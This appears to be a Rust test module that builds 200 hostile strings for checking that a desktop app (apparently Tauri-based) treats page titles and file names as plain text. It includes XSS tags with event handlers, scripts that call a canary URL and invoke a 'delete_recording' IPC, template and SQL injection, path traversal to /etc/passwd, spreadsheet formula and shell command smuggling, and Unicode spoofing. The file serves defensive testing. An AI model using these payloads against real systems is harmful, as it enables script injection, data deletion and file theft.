//! Two hundred texts that a hostile page could bear as its title, or a colleague's file as a name: whoever takes one for more than a text
//! runs it, follows it, or breaks on it.

/// So many.
pub const COUNT: usize = 200;
/// The attribute that every element of theirs bears: one in the document is a text that became markup.
pub const MARK: &str = "data-canary";

/// What a payload runs, if it can: it sets a global, asks `canary` for something, and has the window delete a recording.
fn deed(canary: &str) -> String {
    format!("globalThis.canary=1;fetch('{canary}');globalThis.__TAURI_INTERNALS__.invoke('delete_recording',{{id:'hostile'}})")
}

/// All of them, each with its number in front. `canary` is an address that nobody should ask.
pub fn payloads(canary: &str) -> Vec<String> {
    let deed = deed(canary);
    let elements = elements(canary, &deed);
    let closers = ["\">", "'>", "</title>", "</textarea>", "-->", "]]>", "</script>", "\u{0}>", "`}"];
    let broken_out = elements
        .iter()
        .enumerate()
        .map(|(i, element)| format!("{}{element}", closers[i % closers.len()]));
    let all = elements
        .iter()
        .cloned()
        .chain(broken_out)
        .chain(templates(&deed))
        .chain(addresses(canary, &deed))
        .chain(texts(canary));
    let numbered: Vec<String> = all.enumerate().map(|(i, text)| format!("№{i} {text}")).collect();
    numbered.into_iter().take(COUNT).collect()
}

fn elements(canary: &str, deed: &str) -> Vec<String> {
    let handlers = [
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("svg/", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("iframe", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("embed src=x", "onerror"),
        ("div style=animation:x", "onanimationstart"),
        ("p tabindex=1", "onfocusin"),
        ("a href=# style=position:fixed;inset:0", "onmouseover"),
        ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("source src=x", "onerror"),
        ("x contenteditable autofocus", "onbeforeinput"),
        ("IMG SRC=X", "ONERROR"),
        ("img/src=x", "onerror"),
        ("video><source src=x", "onerror"),
        ("svg><animate attributeName=x", "onbegin"),
        ("svg><set attributeName=x", "onbegin"),
        ("math><mtext><img src=x", "onerror"),
        ("table background=x", "onclick"),
    ];
    let mut found: Vec<String> = handlers
        .iter()
        .map(|(tag, event)| format!("<{tag} {MARK} {event}=\"{deed}\">"))
        .collect();
    found.extend([
        format!("<script {MARK}>{deed}</script>"),
        format!("<SCRIPT {MARK}>{deed}</SCRIPT>"),
        format!("<scr<script>ipt {MARK}>{deed}</script>"),
        format!("<script {MARK} src={canary}></script>"),
        format!("<script {MARK} type=module>import '{canary}'</script>"),
        format!("<svg {MARK}><script>{deed}</script></svg>"),
        format!("<svg {MARK}><foreignObject><iframe src=\"javascript:{deed}\"></iframe></foreignObject></svg>"),
        format!("<svg {MARK}><use href=\"{canary}#x\"/></svg>"),
        format!("<svg {MARK}><image href=\"{canary}\"/></svg>"),
        format!("<svg {MARK}><a href=\"javascript:{deed}\"><text y=20>x</text></a></svg>"),
        format!("<math {MARK} href=\"javascript:{deed}\">x</math>"),
        format!("<iframe {MARK} src=\"javascript:{deed}\"></iframe>"),
        format!("<iframe {MARK} srcdoc=\"<script>parent.canary=1</script>\"></iframe>"),
        format!("<object {MARK} data=\"{canary}\"></object>"),
        format!("<embed {MARK} src=\"{canary}\">"),
        format!("<a {MARK} href=\"javascript:{deed}\">x</a>"),
        format!("<a {MARK} href=\"{canary}\" target=_blank>x</a>"),
        format!("<form {MARK} action=\"{canary}\"><button>x</button></form>"),
        format!("<input {MARK} type=image src=\"{canary}\">"),
        format!("<img {MARK} src=\"{canary}\">"),
        format!("<img {MARK} srcset=\"{canary} 2x\">"),
        format!("<link {MARK} rel=prefetch href=\"{canary}\">"),
        format!("<link {MARK} rel=stylesheet href=\"{canary}\">"),
        format!("<style {MARK}>@import url({canary});</style>"),
        format!("<style {MARK}>*{{background:url({canary})}}</style>"),
        format!("<div {MARK} style=\"background:url({canary})\">x</div>"),
        format!("<meta {MARK} http-equiv=refresh content=\"0;url={canary}\">"),
        format!("<base {MARK} href=\"{canary}\">"),
        format!("<dialog {MARK} open><h1>x</h1></dialog>"),
        format!("<template {MARK} shadowrootmode=open><img src=\"{canary}\"></template>"),
        format!("<plaintext {MARK}>"),
        format!("<noscript><p {MARK} title=\"</noscript><img src=x onerror={deed}>\">"),
        format!("<bold {MARK}"),
        format!("&lt;img src=x {MARK} onerror={deed}&gt;"),
        format!("&#60;img src=x {MARK} onerror={deed}&#62;"),
    ]);
    found
}

fn templates(deed: &str) -> Vec<String> {
    [
        format!("{{@html '<img src=x {MARK}>'}}"),
        format!("{{{deed}}}"),
        format!("{{{{{deed}}}}}"),
        format!("{{{{constructor.constructor('{deed}')()}}}}"),
        format!("${{{deed}}}"),
        format!("#{{{deed}}}"),
        format!("<%= {deed} %>"),
        format!("{{% raw %}}{deed}"),
        format!("[[${{{deed}}}]]"),
        format!("{{#if {deed}}}x{{/if}}"),
        format!("`${{{deed}}}`"),
        format!("';{deed};'"),
        format!("\";{deed};\""),
        format!("\\\";{deed};//"),
        format!("*/{deed}/*"),
        "__proto__".to_owned(),
        "constructor".to_owned(),
        "toString".to_owned(),
        "{\"__proto__\":{\"canary\":1}}".to_owned(),
        "%s%n%x%p".to_owned(),
    ]
    .into()
}

fn addresses(canary: &str, deed: &str) -> Vec<String> {
    [
        format!("javascript:{deed}"),
        format!("JaVaScRiPt:{deed}"),
        format!("java\tscript:{deed}"),
        format!("data:text/html,<script>{deed}</script>"),
        format!("vbscript:{deed}"),
        canary.to_owned(),
        format!("//{}", canary.trim_start_matches("http://")),
        "ipc://localhost/delete_recording".to_owned(),
        "picture://localhost/../history.db".to_owned(),
        "tauri://localhost/index.html#/settings".to_owned(),
        "file:///etc/passwd".to_owned(),
        "#/settings".to_owned(),
    ]
    .into()
}

fn texts(canary: &str) -> Vec<String> {
    [
        "\u{202e}gnp.exe\u{202c}",
        "\u{2066}\u{202e}정상\u{2069}",
        "정\u{200b}상\u{200d}\u{feff}",
        "\u{2028}\u{2029}\u{85}",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\system32",
        "%2e%2e%2f%2e%2e%2fhistory.db",
        "/dev/zero",
        "C:\\CON.png",
        "\\\\server\\share",
        "file\u{0}.png",
        "'; DROP TABLE run; --",
        "\" OR 1=1 --",
        "%' ESCAPE '_",
        "\u{1b}[2J\u{1b}[31m정상\u{1b}[0m",
        "\u{1b}]8;;http://x.example\u{7}link\u{1b}]8;;\u{7}",
        "\u{8}\u{8}\u{8}\u{7f}",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "; touch canary",
        "$(touch canary)",
        "`touch canary`",
        "| tee canary",
        "&& touch canary",
        "--help",
        "\r\nSet-Cookie: canary=1\r\n\r\n",
        "line\nline\nline",
        "*bold* _it_ [x](javascript:1) ![x](x)",
        "🏴\u{e0067}\u{e0062}\u{e007f}👩\u{200d}👩\u{200d}👧",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([
        format!("=HYPERLINK(\"{canary}\")"),
        "가".repeat(300),
        "A".repeat(900),
        "<b>".repeat(300),
        "\u{fdfd}".repeat(60),
    ])
    .collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_as_many_as_is_said_and_no_two_are_the_same() {
        let all = payloads("http://127.0.0.1:9/canary");
        let different: BTreeSet<&str> = all.iter().filter_map(|text| text.split_once(' ')).map(|(_, text)| text).collect();
        assert_eq!((all.len(), different.len()), (COUNT, COUNT));
        // The last kind is there too, so none was cut off.
        assert!(all.iter().any(|text| text.contains("touch canary")) && all.iter().all(|text| text.len() <= 1_000));
    }
}
